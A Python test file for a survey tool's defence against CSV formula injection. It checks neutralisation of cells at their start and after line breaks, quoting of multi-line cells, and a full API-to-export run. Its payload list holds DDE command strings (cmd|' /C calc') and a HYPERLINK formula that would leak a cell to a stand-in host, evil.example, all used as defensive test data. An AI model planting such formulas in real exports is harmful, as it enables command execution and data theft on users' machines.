"""Formula injection: cells that a spreadsheet would run are neutralised, at
the start of a cell and after any line break inside it, and every CSV cxgap
writes quotes the cells that hold a line break."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from typer.testing import CliRunner

from cxgap.cli import app
from cxgap.contracts.cells import (
    FORMULA_STARTS,
    LINE_BREAKS,
    frame_csv_text,
    neutralise_cell,
    neutralise_frame,
    safe_csv_text,
    write_safe_csv,
)
from cxgap.settings import Settings
from cxgap.store import schema as t
from cxgap.store.db import Database
from cxgap.store.invitations import Contact, create_invitations
from cxgap.store.studies import save_study
from cxgap.study.defaults import default_study
from cxgap.web import create_app
from tests.test_web_api import _complete

runner = CliRunner()

# Payloads from the OWASP "CSV Injection" page and common proof-of-concept lists.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
]

#: The answer of issue 15: a bare CR, then a formula.
CR_PAYLOAD = "Good service overall\r=cmd|' /C calc'!A0"

#: What a cell may not start with, nor any line of a written file.
LIVE = tuple(c for c in FORMULA_STARTS if c not in LINE_BREAKS)


def physical_lines(text: str) -> list[str]:
    """``text`` split at every character some reader ends a line at, CR alone
    included (what a reader that ignores CSV quoting sees as rows)."""
    return re.split(f"[{re.escape(LINE_BREAKS)}]", text)


def assert_no_line_starts_a_formula(text: str) -> None:
    """No physical line of ``text`` starts with a formula, bare or just inside
    an opening quote (a spreadsheet drops the quote and runs the rest)."""
    for number, line in enumerate(physical_lines(text), start=1):
        assert not line.removeprefix('"').startswith(LIVE), f"line {number}: {line!r}"


def added_quotes(text: str) -> int:
    """How many quotes neutralising ``text`` must add: one at its start and one
    after each run of line breaks, where a formula starts."""
    starts = 1 if text.startswith(FORMULA_STARTS) else 0
    breaks = re.findall(f"[{re.escape(LINE_BREAKS)}]+(?=[{re.escape(''.join(LIVE))}])", text)
    return starts + len(breaks)


def test_every_known_payload_is_prefixed_with_a_quote() -> None:
    for payload in PAYLOADS:
        assert neutralise_cell(payload) == "'" + payload


def test_a_formula_after_any_line_break_is_prefixed_with_a_quote() -> None:
    assert neutralise_cell(CR_PAYLOAD) == "Good service overall\r'=cmd|' /C calc'!A0"
    for brk in ("\r", "\n", "\r\n", "\u2028", "\u2029", "\u0085", "\n\n\r"):
        assert neutralise_cell(f"ok{brk}@SUM(1)") == f"ok{brk}'@SUM(1)", repr(brk)
        assert neutralise_cell(f"ok{brk}\t=1") == f"ok{brk}'\t=1", repr(brk)
    # A leading CR keeps its quote, and the formula behind it gets one too.
    assert neutralise_cell("\r=1+1") == "'\r'=1+1"
    # Text after a break that starts no formula is left alone.
    assert neutralise_cell("line one\nline two\r\n 3 = 3") == "line one\nline two\r\n 3 = 3"


def test_numbers_none_and_plain_text_are_unchanged() -> None:
    for value in (-5, -5.5, 0, 3.25, None, True, "Fast fixes", "", " =1", "'=1"):
        out = neutralise_cell(value)
        assert out == value and type(out) is type(value)


@given(st.text(alphabet=st.sampled_from("ab '=+-@\t\uff1d" + LINE_BREAKS)))
def test_a_neutralised_cell_never_starts_a_formula_on_any_line(text: str) -> None:
    out = neutralise_cell(text)
    assert not out.startswith(FORMULA_STARTS)
    assert_no_line_starts_a_formula(out)
    # Nothing is lost: only quotes are added, one per formula start.
    assert out.replace("'", "") == text.replace("'", "")
    assert out.count("'") - text.count("'") == added_quotes(text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_stay_numbers(number: float) -> None:
    assert neutralise_cell(number) == number


@given(st.lists(st.text(), min_size=1, max_size=20))
def test_a_written_csv_reads_back_with_no_formula_cell(cells: list[str]) -> None:
    from tempfile import mkdtemp

    path = Path(mkdtemp()) / "out.csv"
    assert write_safe_csv(path, ["=header", "n"], [[c, -1.5] for c in cells]) == len(cells)
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'=header", "n"]
    assert len(rows) == len(cells) + 1
    for (cell, number), original in zip(rows[1:], cells, strict=True):
        assert not cell.startswith(FORMULA_STARTS)
        assert cell == neutralise_cell(original)
        assert number == "-1.5"


@given(st.lists(st.text(alphabet=st.sampled_from("a,\"'=@-\t" + LINE_BREAKS)), max_size=8))
def test_no_line_of_a_written_csv_starts_a_formula_and_every_cell_round_trips(
    cells: list[str],
) -> None:
    text = safe_csv_text(["answer", "n"], [["", -1], *[[c, 2] for c in cells]])
    # The row that starts with an empty cell and a negative number is the one
    # line allowed to start with "-": it is a number, not text.
    lines = [line for line in physical_lines(text) if line != ",-1"]
    assert_no_line_starts_a_formula("\n".join(lines))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["answer", "n"], ["", "-1"], *[[neutralise_cell(c), "2"] for c in cells]]


def test_a_cell_holding_cr_or_lf_is_quoted() -> None:
    text = safe_csv_text(["a"], [["x\ry"], ["x\ny"], ["x\r\ny"], ["plain"]])
    assert text == 'a\r\n"x\ry"\r\n"x\ny"\r\n"x\r\ny"\r\nplain\r\n'


def test_a_frame_is_written_with_numbers_as_numbers_and_empty_missing_cells() -> None:
    frame = pd.DataFrame({"open.well": [CR_PAYLOAD, None], "ltr": [9.0, np.nan]})
    text = frame_csv_text(frame)
    assert text == "open.well,ltr\r\n\"Good service overall\r'=cmd|' /C calc'!A0\",9.0\r\n,\r\n"
    assert_no_line_starts_a_formula(text)


def test_frame_text_columns_and_headers_are_neutralised_numbers_kept() -> None:
    frame = pd.DataFrame(
        {
            "open.improve": ["=HYPERLINK(1)", "ok", None],
            "ltr": [-1.0, 9.0, np.nan],
            "@team": ["-team", "support", "+1"],
        }
    )
    out = neutralise_frame(frame)
    assert list(out.columns) == ["open.improve", "ltr", "'@team"]
    assert out["open.improve"].tolist() == ["'=HYPERLINK(1)", "ok", None]
    assert out["ltr"].tolist()[:2] == [-1.0, 9.0] and np.isnan(out["ltr"].iloc[2])
    assert out["'@team"].tolist() == ["'-team", "support", "'+1"]
    assert frame["open.improve"].iloc[0] == "=HYPERLINK(1)"  # the input is not changed


def test_problem_report_never_writes_a_live_formula(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from cxgap.errors import Problem
    from cxgap.ingest.responses import write_problem_report

    path = tmp_path / "problems.csv"
    write_problem_report(
        [Problem("export.csv", 3, "Q1", '=HYPERLINK("http://x","y")', "a number from 1 to 5")],
        path,
    )
    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text


# --- through the product: an answer from the API, out through `cxgap export` ------


def test_an_api_answer_with_a_bare_cr_cannot_start_a_row_of_the_exported_csv(
    fresh_db: Database, db_url: str, tmp_path: Path
) -> None:
    save_study(fresh_db, default_study("acme", organisation="Acme"))
    [link] = create_invitations(
        fresh_db, "acme", audience="customer", wave="w1", contacts=[Contact(email="a@b.test")]
    ).links
    with TestClient(create_app(Settings.load(database_url=db_url), database=fresh_db)) as api:
        survey = api.get(f"/api/v1/surveys/{link.token}").json()
        answers: dict[str, Any] = {**_complete(survey), "open.well": CR_PAYLOAD}
        done = api.post(f"/api/v1/surveys/{link.token}/submit", json={"answers": answers})
        assert done.status_code == 200, done.text
    out = tmp_path / "acme.zip"
    exported = runner.invoke(app, ["export", "acme", "--out", str(out), "--db", db_url])
    assert exported.exit_code == 0, exported.output
    with zipfile.ZipFile(out) as z:
        text = z.read("responses.csv").decode("utf-8")
    # A reader that ends rows at a bare CR (or at LF) meets no formula ...
    assert_no_line_starts_a_formula(text)
    assert "\"Good service overall\r'=cmd" in text
    # ... and a CSV reader gets the whole answer back in its cell, neutralised.
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["open.well"] == "Good service overall\r'=cmd|' /C calc'!A0"
    # The import reads the JSON tables, not this copy: the answer comes back as written.
    again = f"sqlite:///{tmp_path / 'again.db'}"
    imported = runner.invoke(app, ["import", "study", str(out), "--db", again])
    assert imported.exit_code == 0, imported.output
    with Database.open(Settings.load(database_url=again)) as db, db.connect() as conn:
        stored = conn.execute(
            select(t.answer.c.value_text).where(t.answer.c.question_key == "open.well")
        ).scalar_one()
    assert stored == CR_PAYLOAD


def test_the_problem_report_quotes_and_neutralises_a_cell_with_a_bare_cr(tmp_path: Path) -> None:
    from cxgap.errors import Problem
    from cxgap.ingest.responses import write_problem_report

    path = tmp_path / "problems.csv"
    write_problem_report([Problem("export.csv", 3, "Q1", CR_PAYLOAD, "a number")], path)
    text = path.read_bytes().decode("utf-8-sig")  # as written: no CR turned into LF
    assert_no_line_starts_a_formula(text)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ["export.csv", "3", "Q1", neutralise_cell(CR_PAYLOAD), "a number"]


def test_the_mail_merge_file_quotes_and_neutralises_a_name_with_a_bare_cr() -> None:
    from cxgap.invite.links import links_csv
    from cxgap.store.invitations import IssuedLink

    link = IssuedLink(1, "tok", "customer", "w1", "c-1", CR_PAYLOAD, "a@b.test", None, None)
    text = links_csv([link], "https://cx.example")
    assert_no_line_starts_a_formula(text)
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["name"] == neutralise_cell(CR_PAYLOAD)
